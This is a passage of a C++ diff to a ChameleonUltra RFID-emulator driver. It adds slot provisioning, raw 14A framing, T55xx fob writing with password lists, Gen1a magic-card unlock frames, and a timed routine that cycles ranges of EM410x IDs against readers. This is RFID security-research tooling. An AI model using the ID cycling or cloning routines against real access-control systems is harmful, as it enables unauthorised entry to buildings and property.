+    for (uint8_t i = 0; i < 8; i++) {
+        const SlotManifest &m = manifest[i];
+        ProvisionResult &result = results[i];
+        SlotInfo &info = slotTable.slots[i];
+        result = {PROVISION_UNTOUCHED, GET_APP_VERSION};
+
+        if (!m.configure) continue;
+
+        size_t dumpChunks = m.dump ? (m.dumpSize + MAX_DUMP_SIZE - 1) / MAX_DUMP_SIZE : 0;
+        TagType hfType = m.hfType != UNDEFINED ? m.hfType : info.hfType;
         if (
-            (tagVersion.data[2] == 3 || isMikronUlev1)
-            && tagVersion.data[4] == 1
-            && tagVersion.data[5] == 0
+            (m.dump && (m.dumpSize == 0 || m.dumpSize % 16 || m.dumpSize > 4096 || !isMifareClassic(hfType)))
+            || m.uidSize > 10
         ) {
-            switch (tagVersion.data[6]) {
-                case 0x0B: tagType = F("Mifare Ultralight EV1 48b"); break;
-                case 0x0E: tagType = F("Mifare Ultralight EV1 128b"); break;
-            }
+            result = {PROVISION_FAILED, MF1_WRITE_EMU_BLOCK_DATA};
+            allOk = false;
+            continue;
+        }
+
+        bool hfTypeChange = m.hfType != UNDEFINED && m.hfType != info.hfType;
+        bool lfTypeChange = m.lfType != UNDEFINED && m.lfType != info.lfType;
+
+        // Phase 1: slot metadata and reads of the current emulator data
+        CmdRequest requests[12 + 26];
+        uint8_t hfTypeArgs[3] = {i, (uint8_t)(m.hfType >> 8), (uint8_t)m.hfType};
+        uint8_t lfTypeArgs[3] = {i, (uint8_t)(m.lfType >> 8), (uint8_t)m.lfType};
+        uint8_t hfEnableArgs[3] = {i, RFID_HF, 0x01};
+        uint8_t lfEnableArgs[3] = {i, RFID_LF, 0x01};
+        uint8_t hfNickArgs[2 + sizeof(info.hfNick)] = {i, RFID_HF};
+        uint8_t lfNickArgs[2 + sizeof(info.lfNick)] = {i, RFID_LF};
+        uint8_t slotArgs[1] = {i};
+        uint8_t readArgs[26][2];
+        size_t hfNickLen = m.hfNick ? min<size_t>(strlen(m.hfNick), sizeof(info.hfNick) - 1) : 0;
+        size_t lfNickLen = m.lfNick ? min<size_t>(strlen(m.lfNick), sizeof(info.lfNick) - 1) : 0;
+        size_t count = 0;
+
+        if (hfTypeChange) {
+            requests[count++] = {SET_SLOT_TAG_TYPE, hfTypeArgs, 3};
+            requests[count++] = {SET_SLOT_DATA_DEFAULT, hfTypeArgs, 3};
+        }
+        if (lfTypeChange) {
+            requests[count++] = {SET_SLOT_TAG_TYPE, lfTypeArgs, 3};
+            requests[count++] = {SET_SLOT_DATA_DEFAULT, lfTypeArgs, 3};
+        }
+        if (m.hfType != UNDEFINED && !info.hfEnabled) requests[count++] = {SET_SLOT_ENABLE, hfEnableArgs, 3};
+        if (m.lfType != UNDEFINED && !info.lfEnabled) requests[count++] = {SET_SLOT_ENABLE, lfEnableArgs, 3};
+
+        if (m.hfNick && strncmp(m.hfNick, info.hfNick, sizeof(info.hfNick) - 1) != 0) {
+            memcpy(hfNickArgs + 2, m.hfNick, hfNickLen);
+            if (hfNickLen) requests[count++] = {SET_SLOT_TAG_NICK, hfNickArgs, 2 + hfNickLen};
+            else requests[count++] = {DELETE_SLOT_TAG_NICK, hfNickArgs, 2};
+        }
+        if (m.lfNick && strncmp(m.lfNick, info.lfNick, sizeof(info.lfNick) - 1) != 0) {
+            memcpy(lfNickArgs + 2, m.lfNick, lfNickLen);
+            if (lfNickLen) requests[count++] = {SET_SLOT_TAG_NICK, lfNickArgs, 2 + lfNickLen};
+            else requests[count++] = {DELETE_SLOT_TAG_NICK, lfNickArgs, 2};
         }
-        else if (tagVersion.data[2] == 4 && tagVersion.data[4] == 1 && tagVersion.data[5] == 0) {
-            switch (tagVersion.data[6]) {
-                case 0x0B: tagType = F("NTAG 210"); break;
-                case 0x0E: tagType = F("NTAG 212"); break;
-                case 0x0F: tagType = F("NTAG 213"); break;
-                case 0x11: tagType = F("NTAG 215"); break;
-                case 0x13: tagType = F("NTAG 216"); break;
+
+        size_t metaCount = count;
+        bool hasData = m.uidSize || m.dump || m.hasLfId;
+        ProvisionCtx ctx = {&m, &result, requests, 0, false, false, 0};
+
+        if (hasData) {
+            requests[count++] = {SET_ACTIVE_SLOT, slotArgs, 1};
+
+            // a type change resets the slot data, nothing to compare with
+            if (m.uidSize && !hfTypeChange) requests[count++] = {HF14A_GET_ANTI_COLL_DATA, nullptr, 0};
+            if (m.hasLfId && !lfTypeChange) requests[count++] = {EM410X_GET_EMU_ID, nullptr, 0};
+
+            ctx.firstDumpRead = count;
+            ctx.dumpMismatch = dumpChunks >= 32 ? 0xFFFFFFFF : (1UL << dumpChunks) - 1;
+            for (size_t c = 0; c < dumpChunks && !hfTypeChange; c++) {
+                size_t blocks = min<size_t>(MAX_DUMP_SIZE, m.dumpSize - c * MAX_DUMP_SIZE) / 16;
+                readArgs[c][0] = c * MAX_DUMP_SIZE / 16;
+                readArgs[c][1] = blocks;
+                requests[count++] = {MF1_READ_EMU_BLOCK_DATA, readArgs[c], 2};
             }
         }
+
+        if (count == 0) {
+            result.status = PROVISION_SKIPPED;
+            continue;
+        }
+
+        if (!runPipeline(requests, count, provisionHandler, &ctx)) {
+            if (result.status != PROVISION_FAILED) result = {PROVISION_FAILED, requests[0].cmd};
+            // SET_ACTIVE_SLOT may have gone through before the failure
+            if (hasData) deviceSlot = 0;
+            slotTable.valid = false;
+            allOk = false;
+            continue;
+        }
+        if (hasData) slotTable.activeSlot = deviceSlot = i + 1;
+
+        if (hfTypeChange) info.hfType = m.hfType;
+        if (lfTypeChange) info.lfType = m.lfType;
+        if (m.hfType != UNDEFINED) info.hfEnabled = true;
+        if (m.lfType != UNDEFINED) info.lfEnabled = true;
+        if (m.hfNick) { memcpy(info.hfNick, m.hfNick, hfNickLen); info.hfNick[hfNickLen] = '\0'; }
+        if (m.lfNick) { memcpy(info.lfNick, m.lfNick, lfNickLen); info.lfNick[lfNickLen] = '\0'; }
+
+        // Phase 2: write the emulator data that differs
+        uint8_t antiColl[16];
+        count = 0;
+        if (m.uidSize && !ctx.antiCollMatch) {
+            requests[count++] = {HF14A_SET_ANTI_COLL_DATA, antiColl, encodeAntiColl(m, antiColl)};
+        }
+        if (m.hasLfId && !ctx.lfIdMatch) requests[count++] = {EM410X_SET_EMU_ID, m.lfId, 5};
+
+        bool ok = count == 0 || runPipeline(requests, count, provisionHandler, &ctx);
+        if (ok && m.dump && ctx.dumpMismatch) {
+            ok = writeEmuBlocks(m.dump, m.dumpSize, ctx.dumpMismatch);
+            if (!ok) result = {PROVISION_FAILED, MF1_WRITE_EMU_BLOCK_DATA};
+        }
+
+        if (!ok) {
+            if (result.status != PROVISION_FAILED) result = {PROVISION_FAILED, requests[0].cmd};
+            allOk = false;
+            continue;
+        }
+
+        bool updated = metaCount > 0 || count > 0 || (m.dump && ctx.dumpMismatch);
+        result.status = updated ? PROVISION_UPDATED : PROVISION_SKIPPED;
+        changed |= updated;
+    }
+
+    CmdRequest finish[2];
+    uint8_t restoreArgs[1] = {(uint8_t)(restoreSlot - 1)};
+    size_t count = 0;
+
+    if (restoreSlot != deviceSlot) finish[count++] = {SET_ACTIVE_SLOT, restoreArgs, 1};
+    if (changed) finish[count++] = {SLOT_DATA_CONFIG_SAVE, nullptr, 0};
+
+    if (count > 0) {
+        if (runPipeline(finish, count)) {
+            slotTable.activeSlot = restoreSlot;
+            slotTable.mfConfigValid = false;
+        }
+        else {
+            allOk = false;
+        }
     }
 
-    return tagType;
+    return allOk;
 }
 
 
@@ -445,7 +1130,12 @@ bool ChameleonUltra::cmdEnableSlot(uint8_t slot, TagSenseType freq) {
 
     uint8_t cmd[3] = {slot-1, freq, 0x01};
 
-    return writeCommand(SET_SLOT_ENABLE, cmd, sizeof(cmd));
+    if (!writeCommand(SET_SLOT_ENABLE, cmd, sizeof(cmd))) return false;
+
+    if (freq == RFID_HF) slotTable.slots[slot-1].hfEnabled = true;
+    else if (freq == RFID_LF) slotTable.slots[slot-1].lfEnabled = true;
+
+    return true;
 }
 
 
@@ -456,7 +1146,12 @@ bool ChameleonUltra::cmdChangeActiveSlot(uint8_t slot) {
 
     uint8_t cmd[1] = {slot-1};
 
-    return writeCommand(SET_ACTIVE_SLOT, cmd, sizeof(cmd));
+    if (!writeCommand(SET_ACTIVE_SLOT, cmd, sizeof(cmd))) return false;
+
+    slotTable.activeSlot = slot;
+    slotTable.mfConfigValid = false;
+
+    return true;
 }
 
 
@@ -467,7 +1162,13 @@ bool ChameleonUltra::cmdChangeSlotType(uint8_t slot, TagType tagType) {
 
     uint8_t cmd[3] = {slot-1, (tagType >> 8) & 0xFF, tagType & 0xFF};
 
-    return writeCommand(SET_SLOT_TAG_TYPE, cmd, sizeof(cmd));
+    if (!writeCommand(SET_SLOT_TAG_TYPE, cmd, sizeof(cmd))) return false;
+
+    if (tagType > UNDEFINED && tagType < TAG_TYPES_LF_END) slotTable.slots[slot-1].lfType = tagType;
+    else slotTable.slots[slot-1].hfType = tagType;
+    if (slot == slotTable.activeSlot) slotTable.mfConfigValid = false;
+
+    return true;
 }
 
 
@@ -481,13 +1182,20 @@ bool ChameleonUltra::cmdChangeSlotNickName(uint8_t slot, TagSenseType freq, Stri
         name.c_str()
     );
 
-    size_t name_len = name.length();
-    uint8_t cmd[2 + name_len] = {};
+    SlotInfo &info = slotTable.slots[slot-1];
+    size_t name_len = min<size_t>(name.length(), sizeof(info.hfNick) - 1);
+    uint8_t cmd[2 + sizeof(info.hfNick)] = {};
     cmd[0] = slot-1;
     cmd[1] = freq;
-    name.toCharArray(reinterpret_cast<char*>(cmd+2), sizeof(name));
+    memcpy(cmd+2, name.c_str(), name_len);
+
+    if (!writeCommand(SET_SLOT_TAG_NICK, cmd, 2 + name_len)) return false;
 
-    return writeCommand(SET_SLOT_TAG_NICK, cmd, sizeof(cmd));
+    char *nick = (freq == RFID_HF) ? info.hfNick : info.lfNick;
+    memcpy(nick, name.c_str(), name_len);
+    nick[name_len] = '\0';
+
+    return true;
 }
 
 
@@ -510,6 +1218,8 @@ bool ChameleonUltra::cmdBatteryInfo() {
 bool ChameleonUltra::cmdFactoryReset() {
     Serial.println("Factory Reset");
 
+    slotTable.valid = false;
+
     return writeCommand(WIPE_FDS);
 }
 
@@ -517,28 +1227,39 @@ bool ChameleonUltra::cmdFactoryReset() {
 // LF Commands
 
 bool ChameleonUltra::cmdLFRead() {
+    CHM_ALLOC_AUDIT("cmdLFRead");
     Serial.println("Read LF");
 
     return writeCommand(EM410X_SCAN);
 }
 
 
+static size_t encodeT55xxWrite(const ChameleonUltra::T55xxKeys &keys, const uint8_t *id, uint8_t *out) {
+    uint8_t count = min<uint8_t>(keys.oldKeyCount, 8);
+
+    memcpy(out, id, 5);
+    memcpy(out+5, keys.newKey, 4);
+    memcpy(out+9, keys.oldKeys, count * 4);
+
+    return 9 + count * 4;
+}
+
+
 bool ChameleonUltra::cmdLFWrite(byte *uid, size_t length) {
+    CHM_ALLOC_AUDIT("cmdLFWrite");
     Serial.println("Write LF");
 
     if (length != 5) return false;
 
-    uint8_t cmd[17] = {
-        0x00, 0x00, 0x00, 0x00, 0x00,
-        0x20, 0x20, 0x66, 0x66, 0x51, 0x24, 0x36, 0x48, 0x19, 0x92, 0x04, 0x27
-    };
-    memcpy(cmd, uid, length);
+    uint8_t cmd[41];
+    size_t size = encodeT55xxWrite(t55xxKeys, uid, cmd);
 
-    return writeCommand(EM410X_WRITE_TO_T55XX, cmd, sizeof(cmd));
+    return writeCommand(EM410X_WRITE_TO_T55XX, cmd, size);
 }
 
 
 bool ChameleonUltra::cmdLFEconfig(byte *uid, size_t length) {
+    CHM_ALLOC_AUDIT("cmdLFEconfig");
     Serial.println("Set LF emulation config");
 
     if (length != 5) return false;
@@ -550,19 +1271,190 @@ bool ChameleonUltra::cmdLFEconfig(byte *uid, size_t length) {
 }
 
 
+#define LF_POLL_INTERVAL 50
+#define LF_REMOVED_MISSES 3
+
+size_t ChameleonUltra::lfWriteBatch(LfIdSource next, LfBatchCallback onResult, void *ctx, uint32_t fobTimeout) {
+    Serial.println("LF batch write");
+
+    size_t verified = 0;
+    uint8_t last[5] = {};
+    bool hasLast = false;
+    LfBatchResult res = {};
+
+    for (res.index = 0; next(res.index, res.id, ctx); res.index++) {
+        res.written = res.verified = false;
+        uint32_t start = millis();
+        bool found = false;
+
+        // Wait for the previous fob to leave and a new one to show up. A few
+        // scans in a row must miss before the previous fob counts as gone.
+        bool previous = hasLast;
+        uint8_t misses = 0;
+
+        _polling = true;
+        while (millis() - start < fobTimeout) {
+            bool seen = exchange(EM410X_SCAN) && lfTagData.size == 5;
+            if (seen && !(previous && memcmp(lfTagData.uidByte, last, 5) == 0)) {
+                found = true;
+                break;
+            }
+
+            misses = seen ? 0 : misses + 1;
+            if (misses >= LF_REMOVED_MISSES) previous = false;
+            delay(LF_POLL_INTERVAL);
+        }
+        _polling = false;
+
+        if (!found) {
+            Serial.println("No new fob, stopping");
+            break;
+        }
+
+        res.waitMs = millis() - start;
+        start = millis();
+
+        if (memcmp(lfTagData.uidByte, res.id, 5) == 0) {
+            res.verified = true;
+        } else {
+            uint8_t cmd[41];
+            size_t size = encodeT55xxWrite(t55xxKeys, res.id, cmd);
+
+            for (int attempt = 0; attempt < 2 && !res.verified; attempt++) {
+                res.written = exchange(EM410X_WRITE_TO_T55XX, cmd, size);
+                res.verified = res.written
+                    && exchange(EM410X_SCAN)
+                    && lfTagData.size == 5
+                    && memcmp(lfTagData.uidByte, res.id, 5) == 0;
+            }
+        }
+
+        res.writeMs = millis() - start;
+        if (res.verified) verified++;
+
+        // A failed fob also has to leave before the next ID is tried
+        memcpy(last, lfTagData.uidByte, 5);
+        hasLast = true;
+
+        Serial.printf("Fob %u %s in %ums\n", (unsigned)res.index, res.verified ? "OK" : "FAILED", (unsigned)res.writeMs);
+        if (onResult) onResult(res, ctx);
+    }
+
+    return verified;
+}
+
+
+#define LF_CYCLE_MAX_FAILURES 3
+
+bool ChameleonUltra::lfIdRange(size_t index, uint8_t id[5], void *ctx) {
+    const LfIdRange *range = (const LfIdRange *)ctx;
+    if (index >= range->count) return false;
+
+    uint64_t value = range->first + (uint64_t)index * range->step;
+    for (int i = 4; i >= 0; i--) {
+        id[i] = value & 0xFF;
+        value >>= 8;
+    }
+    return true;
+}
+
+
+bool ChameleonUltra::lfIdList(size_t index, uint8_t id[5], void *ctx) {
+    const LfIdList *list = (const LfIdList *)ctx;
+    if (index >= list->count) return false;
+
+    memcpy(id, list->ids[index], 5);
+    return true;
+}
+
+
+size_t ChameleonUltra::lfCycleIds(
+    LfIdSource next, uint32_t dwellMs, LfCycleStats *stats,
+    LfCycleCallback onId, void *ctx
+) {
+    Serial.println("LF ID cycling");
+
+    LfCycleStats local;
+    if (!stats) stats = &local;
+    *stats = {};
+
+    uint8_t id[5];
+    uint8_t last[5];
+    bool hasLast = false;
+    uint8_t failures = 0;
+    uint32_t start = micros();
+    uint32_t deadline = start;
+
+    for (size_t index = 0; next(index, id, ctx); index++) {
+        bool ok = true;
+
+        if (hasLast && memcmp(id, last, 5) == 0) {
+            stats->skipped++;
+        }
+        else {
+            ok = exchange(EM410X_SET_EMU_ID, id, 5);
+            if (ok) {
+                stats->sent++;
+                memcpy(last, id, 5);
+                hasLast = true;
+                failures = 0;
+            }
+            else {
+                stats->failed++;
+                hasLast = false;
+            }
+        }
+
+        if (onId && !onId(index, id, ok, ctx)) break;
+        if (!ok && ++failures >= LF_CYCLE_MAX_FAILURES) {
+            Serial.println("EM410x emulator not answering, stopping");
+            break;
+        }
+
+        // Sleep to the next slot of the schedule, busy wait the last ms
+        deadline += dwellMs * 1000;
+        int32_t left = (int32_t)(deadline - micros());
+        if (left < 0) {
+            stats->maxLate = max<uint32_t>(stats->maxLate, -left);
+            // After a stall (slow exchange, timeout) the schedule restarts
+            // instead of sending the next IDs back-to-back to catch up
+            if ((uint32_t)-left > dwellMs * 1000) deadline = micros();
+            continue;
+        }
+        if (left > 1000) delay((left - 1000) / 1000);
+        while ((int32_t)(deadline - micros()) > 0) {}
+    }
+
+    stats->elapsed = (micros() - start) / 1000;
+    size_t presented = stats->sent + stats->skipped;
+    stats->rate = stats->elapsed > 0 ? presented * 1000.0f / stats->elapsed : 0;
+
+    Serial.printf(
+        "%u IDs in %ums (%.1f/s), %u skipped, %u failed\n",
+        (unsigned)presented, (unsigned)stats->elapsed, stats->rate,
+        (unsigned)stats->skipped, (unsigned)stats->failed
+    );
+    return presented;
+}
+
+
 // HF Commands
 
 bool ChameleonUltra::cmd14aScan() {
+    CHM_ALLOC_AUDIT("cmd14aScan");
     Serial.println("Scan 14a tags");
 
     return writeCommand(HF14A_SCAN);
 }
 
 
-bool ChameleonUltra::cmd14aRaw(RawOptions options, uint8_t timeout, uint8_t *data, size_t length, uint8_t bitlen) {
-    Serial.println("14a raw");
+#define RAW_FRAME_MAX 256
 
-    uint8_t optByte = (
+static size_t encodeRaw(
+    ChameleonUltra::RawOptions options, uint16_t timeout,
+    const uint8_t *data, size_t length, uint16_t bitlen, uint8_t *out
+) {
+    out[0] = (
         options.activateRfField << 7
         | options.waitResponse << 6
         | options.appendCrc << 5
@@ -572,25 +1464,137 @@ bool ChameleonUltra::cmd14aRaw(RawOptions options, uint8_t timeout, uint8_t *dat
         | 0 << 1
         | 0
     );
+    out[1] = timeout >> 8;
+    out[2] = timeout & 0xFF;
+    out[3] = bitlen >> 8;
+    out[4] = bitlen & 0xFF;
+    if (length > 0) memcpy(out+5, data, length);
+
+    return length + 5;
+}
+
+
+static bool checkBitlen(uint16_t bitlen, size_t length) {
+    if (bitlen == 0) return true;
+
+    if (length == 0) {
+        Serial.printf("bitlen=%u but missing data\n", bitlen);
+        return false;
+    }
+    if (bitlen <= (length - 1) * 8 || bitlen > length * 8) {
+        Serial.printf("bitlen=%u incompatible with provided data length=%u\n", bitlen, (unsigned)length);
+        return false;
+    }
+    return true;
+}
 
 
+bool ChameleonUltra::cmd14aRaw(RawOptions options, uint8_t timeout, uint8_t *data, size_t length, uint8_t bitlen) {
+    CHM_ALLOC_AUDIT("cmd14aRaw");
+    Serial.println("14a raw");
+
+    if (length > RAW_FRAME_MAX || !checkBitlen(bitlen, length)) return false;
     if (bitlen == 0) bitlen = length * 8;
-    else {
-        if (length == 0) {
-            Serial.println("bitlen=" + String(bitlen)+ " but missing data");
-            return false;
+
+    uint8_t cmd[RAW_FRAME_MAX + 5];
+    size_t size = encodeRaw(options, timeout, data, length, bitlen, cmd);
+
+    return writeCommand(HF14A_RAW, cmd, size);
+}
+
+
+void ChameleonUltra::crc14a(const uint8_t *data, size_t length, uint8_t crc[2]) {
+    uint32_t wCrc = 0x6363;
+
+    for (size_t i = 0; i < length; i++) {
+        uint8_t b = data[i];
+        b = (b ^ (uint8_t)(wCrc & 0x00FF));
+        b = (b ^ (b << 4));
+        wCrc = (wCrc >> 8) ^ ((uint32_t)b << 8) ^ ((uint32_t)b << 3) ^ ((uint32_t)b >> 4);
+    }
+
+    crc[0] = wCrc & 0xFF;
+    crc[1] = (wCrc >> 8) & 0xFF;
+}
+
+
+uint8_t ChameleonUltra::bcc(const uint8_t *data, size_t length) {
+    uint8_t value = 0;
+    for (size_t i = 0; i < length; i++) value ^= data[i];
+    return value;
+}
+
+
+static bool rawResponseMatches(const ChameleonUltra::RawFrame &frame, const ChameleonUltra::CmdResponse &rsp) {
+    switch (frame.expect) {
+        case ChameleonUltra::RAW_EXPECT_ACK:
+            return rsp.dataSize >= 1 && (rsp.data[0] & 0x0F) == 0x0A;
+        case ChameleonUltra::RAW_EXPECT_NAK:
+            return rsp.dataSize >= 1 && (rsp.data[0] & 0x0F) != 0x0A;
+        case ChameleonUltra::RAW_EXPECT_DATA:
+            return rsp.dataSize >= frame.expectLength
+                && memcmp(rsp.data, frame.expectData, frame.expectLength) == 0;
+        default:
+            return true;
+    }
+}
+
+
+bool ChameleonUltra::runRawScript(const RawFrame *frames, size_t count, ResponseHandler onResponse, void *ctx) {
+    // Every frame is an HF14A_RAW and responses carry no sequence number,
+    // so a frame is only sent once the previous one was answered
+    bool fieldOn = false;
+    bool ok = true;
+
+    chameleonResponses.clear();
+
+    for (size_t i = 0; i < count && ok; i++) {
+        const RawFrame &f = frames[i];
+        size_t length = f.length;
+        if (length + 2 > RAW_FRAME_MAX || !checkBitlen(f.bitlen, length)) {
+            ok = false;
+            break;
         }
-        if (bitlen <= (length - 1) * 8 || bitlen > length * 8) {
-            Serial.println("bitlen=" + String(bitlen)+ " incompatible with provided data length=" + String(length));
-            return false;
+
+        uint8_t data[RAW_FRAME_MAX];
+        memcpy(data, f.data, length);
+        if (f.flags & RAW_HOST_CRC) {
+            crc14a(data, length, data + length);
+            length += 2;
+        }
+
+        uint8_t cmd[RAW_FRAME_MAX + 5];
+        size_t size = encodeRaw(f.options, f.timeout, data, length, f.bitlen ? f.bitlen : length * 8, cmd);
+        if (!sendCommand(HF14A_RAW, cmd, size)) {
+            ok = false;
+            break;
+        }
+        fieldOn = f.options.keepRfField;
+
+        if (!waitResponse(responseTimeout + f.timeout)) {
+            ok = false;
+            break;
         }
-    }
 
+        bool tagOk = checkResponse();
+        bool success = cmdResponse.command == HF14A_RAW
+            && (f.expect == RAW_EXPECT_NONE || (tagOk && rawResponseMatches(f, cmdResponse)));
+
+        if (onResponse && !onResponse(this, i, success, ctx)) success = false;
+        ok = success;
+    }
 
-    uint8_t cmd[length + 5] = {optByte, 0x00, timeout, 0x00, bitlen};
-    if (length > 0) memcpy(cmd+5, data, length);
+    if (!ok) {
+        if (fieldOn) {
+            RawOptions off;
+            uint8_t cmd[5];
+            size_t size = encodeRaw(off, 0, nullptr, 0, 0, cmd);
+            if (sendCommand(HF14A_RAW, cmd, size)) waitResponse(responseTimeout);
+        }
+        chameleonResponses.clear();
+    }
 
-    return writeCommand(HF14A_RAW, cmd, sizeof(cmd));
+    return ok;
 }
 
 
@@ -616,7 +1620,9 @@ bool ChameleonUltra::cmdMfuVersion() {
 
 
 bool ChameleonUltra::cmdMfuReadPage(uint8_t page) {
-    Serial.println("Read Ultralight page " + String(page));
+    CHM_ALLOC_AUDIT("cmdMfuReadPage");
+    Serial.print("Read Ultralight page ");
+    Serial.println(page);
 
     ChameleonUltra::RawOptions opt;
     opt.waitResponse = true;
@@ -631,9 +1637,11 @@ bool ChameleonUltra::cmdMfuReadPage(uint8_t page) {
 
 
 bool ChameleonUltra::cmdMfuWritePage(uint8_t page, uint8_t *data, size_t length) {
-    if (length == 0) return false;
+    CHM_ALLOC_AUDIT("cmdMfuWritePage");
+    if (length == 0 || length > 16) return false;
 
-    Serial.println("Write Ultralight page " + String(page));
+    Serial.print("Write Ultralight page ");
+    Serial.println(page);
 
     // uint8_t cmd[length + 7] = {0x70, 0x00, 0xc8, 0x00, 0x30, 0xa2, page};
     // memcpy(cmd+7, data, length);
@@ -643,53 +1651,71 @@ bool ChameleonUltra::cmdMfuWritePage(uint8_t page, uint8_t *data, size_t length)
     opt.appendCrc = true;
     opt.autoSelect = true;
 
-    uint8_t cmd[length+2] = {0xa2, page};
+    uint8_t cmd[18] = {0xa2, page};
     memcpy(cmd+2, data, length);
 
-    return cmd14aRaw(opt, 200, cmd, sizeof(cmd));
+    return cmd14aRaw(opt, 200, cmd, length + 2);
 }
 
 
-bool ChameleonUltra::cmdMfReadBlock(uint8_t block, uint8_t *key) {
-    Serial.println("Read Mifare block " + String(block));
+bool ChameleonUltra::cmdMfReadBlock(uint8_t block, uint8_t *key, MfKeyType type) {
+    CHM_ALLOC_AUDIT("cmdMfReadBlock");
+    Serial.print("Read Mifare block ");
+    Serial.println(block);
 
-    uint8_t cmd[8] = {0x60, block};
-    if (sizeof(key) >= 6) memcpy(cmd+2, key, 6);
-    else memcpy(cmd+2, mifareKey, 6);
+    uint8_t cmd[8] = {type, block};
+    if (!key) return mfCachedKeyCommand(MF1_READ_ONE_BLOCK, cmd, sizeof(cmd));
+    memcpy(cmd+2, key, 6);
 
     return writeCommand(MF1_READ_ONE_BLOCK, cmd, sizeof(cmd));
 }
 
 
-bool ChameleonUltra::cmdMfWriteBlock(uint8_t block, uint8_t *key, uint8_t *data, size_t length) {
+bool ChameleonUltra::cmdMfWriteBlock(uint8_t block, uint8_t *key, uint8_t *data, size_t length, MfKeyType type) {
+    CHM_ALLOC_AUDIT("cmdMfWriteBlock");
     if (length != 16) return false;
 
-    Serial.println("Write Mifare block " + String(block));
-
-    uint8_t cmd[length+8] = {0x60, block};
-    if (sizeof(key) >= 6) memcpy(cmd+2, key, 6);
-    else memcpy(cmd+2, mifareKey, 6);
+    Serial.print("Write Mifare block ");
+    Serial.println(block);
 
+    uint8_t cmd[24] = {type, block};
     memcpy(cmd+8, data, length);
+    if (!key) return mfCachedKeyCommand(MF1_WRITE_ONE_BLOCK, cmd, sizeof(cmd));
+    memcpy(cmd+2, key, 6);
 
     return writeCommand(MF1_WRITE_ONE_BLOCK, cmd, sizeof(cmd));
 }
 
 
-bool ChameleonUltra::cmdMfEload(String dumpData) {
+static uint8_t hexNibble(char c) {
+    if (c >= '0' && c <= '9') return c - '0';
+    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
+    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
+    return 0;
+}
+
+
+bool ChameleonUltra::cmdMfEload(const String &dumpData) {
     Serial.println("Upload dump data");
+    return cmdMfEload(dumpData.c_str(), dumpData.length());
+}
 
-    uint8_t cmd[MAX_DUMP_SIZE+5] = {};
 
-    int index = 0;
+bool ChameleonUltra::cmdMfEload(const char *hex, size_t length) {
+    CHM_ALLOC_AUDIT("cmdMfEload");
+
+    uint8_t cmd[CHAMELEON_EMU_FRAME+5] = {};
+    size_t frameSize = CHAMELEON_EMU_FRAME;
+
+    size_t index = 0;
     int block = 0;
-    for (size_t i = 0; i < dumpData.length(); i += 2) {
-        cmd[1 + index++] = strtoul(dumpData.substring(i, i + 2).c_str(), NULL, 16);
+    for (size_t i = 0; i + 1 < length; i += 2) {
+        cmd[1 + index++] = (hexNibble(hex[i]) << 4) | hexNibble(hex[i + 1]);
 
-        if (index == MAX_DUMP_SIZE || i+2 ==  dumpData.length()) {
+        if (index == frameSize || i + 3 >= length) {
             cmd[0] = block;
 
-            if (!writeCommand(MF1_WRITE_EMU_BLOCK_DATA, cmd, index+1)) return false;
+            if (!exchange(MF1_WRITE_EMU_BLOCK_DATA, cmd, index+1)) return false;
 
             block += index / 16;
             index = 0;
@@ -700,12 +1726,51 @@ bool ChameleonUltra::cmdMfEload(String dumpData) {
 }
 
 
+bool ChameleonUltra::writeEmuBlocks(const uint8_t *dump, size_t size, uint32_t chunkMask) {
+    // MF1_WRITE_EMU_BLOCK_DATA needs the block index right before the data,
+    // so frames are staged in small groups. Consecutive chunks share a
+    // frame when the firmware takes larger ones.
+    const size_t group = 4;
+    uint8_t frames[group][CHAMELEON_EMU_FRAME + 1];
+    CmdRequest requests[group];
+    size_t count = 0;
+    size_t length = 0;
+    size_t frameSize = CHAMELEON_EMU_FRAME;
+    size_t chunks = (size + MAX_DUMP_SIZE - 1) / MAX_DUMP_SIZE;
+
+    for (size_t c = 0; c <= chunks; c++) {
+        bool selected = c < chunks && (c >= 32 || (chunkMask & (1UL << c)));
+
+        // A skipped chunk, the end or a full frame closes the staged one
+        if (length > 0 && (!selected || length + MAX_DUMP_SIZE > frameSize)) {
+            requests[count] = {MF1_WRITE_EMU_BLOCK_DATA, frames[count], length + 1};
+            length = 0;
+
+            if (++count == group) {
+                if (!runPipeline(requests, count)) return false;
+                count = 0;
+            }
+        }
+        if (!selected) continue;
+
+        size_t offset = c * MAX_DUMP_SIZE;
+        size_t len = min<size_t>(MAX_DUMP_SIZE, size - offset);
+        if (length == 0) frames[count][0] = offset / 16;
+        memcpy(frames[count] + 1 + length, dump + offset, len);
+        length += len;
+    }
+
+    return count == 0 || runPipeline(requests, count);
+}
+
+
 bool ChameleonUltra::cmdMfEconfig(byte *uid, size_t length, byte *atqa, byte sak) {
-    if ((length != 4 && length != 7) || sizeof(atqa) < 4) return false;
+    CHM_ALLOC_AUDIT("cmdMfEconfig");
+    if ((length != 4 && length != 7) || !atqa) return false;
 
     Serial.println("Set HF emulation config");
 
-    uint8_t cmd[length + 5] = {length};
+    uint8_t cmd[12] = {(uint8_t)length};
     memcpy(cmd+1, uid, length);
 
     int index = length + 1;
@@ -730,51 +1795,60 @@ bool ChameleonUltra::cmdMfHalt() {
 }
 
 
-bool ChameleonUltra::cmdMfGen1aAuth() {
-    Serial.println("Mifare Gen1a Auth");
-
-    ChameleonUltra::RawOptions opt;
-    opt.keepRfField = true;
-    opt.waitResponse = true;
-
-    uint8_t cmd[1] = {0x40};
+static const uint8_t gen1aWakeup[1] = {0x40};
+static const uint8_t gen1aUnlock[1] = {0x43};
+static const uint8_t mfHalt[2] = {0x50, 0x00};
+
+static ChameleonUltra::RawFrame rawFrame(
+    const uint8_t *data, uint8_t length, ChameleonUltra::RawExpect expect,
+    bool appendCrc, uint8_t bitlen = 0
+) {
+    ChameleonUltra::RawFrame frame = {};
+    frame.options.keepRfField = true;
+    frame.options.waitResponse = true;
+    frame.options.appendCrc = appendCrc;
+    frame.data = data;
+    frame.length = length;
+    frame.bitlen = bitlen;
+    frame.timeout = 1;
+    frame.expect = expect;
+    return frame;
+}
 
-    if (!cmd14aRaw(opt, 1, cmd, sizeof(cmd), 0x07)) return false;
-    if (cmdResponse.dataSize < 1 || cmdResponse.data[0] != 0x0A) return false;
 
-    uint8_t cmd2[1] = {0x43};
+bool ChameleonUltra::cmdMfGen1aAuth() {
+    Serial.println("Mifare Gen1a Auth");
 
-    if (!cmd14aRaw(opt, 1, cmd2, sizeof(cmd2))) return false;
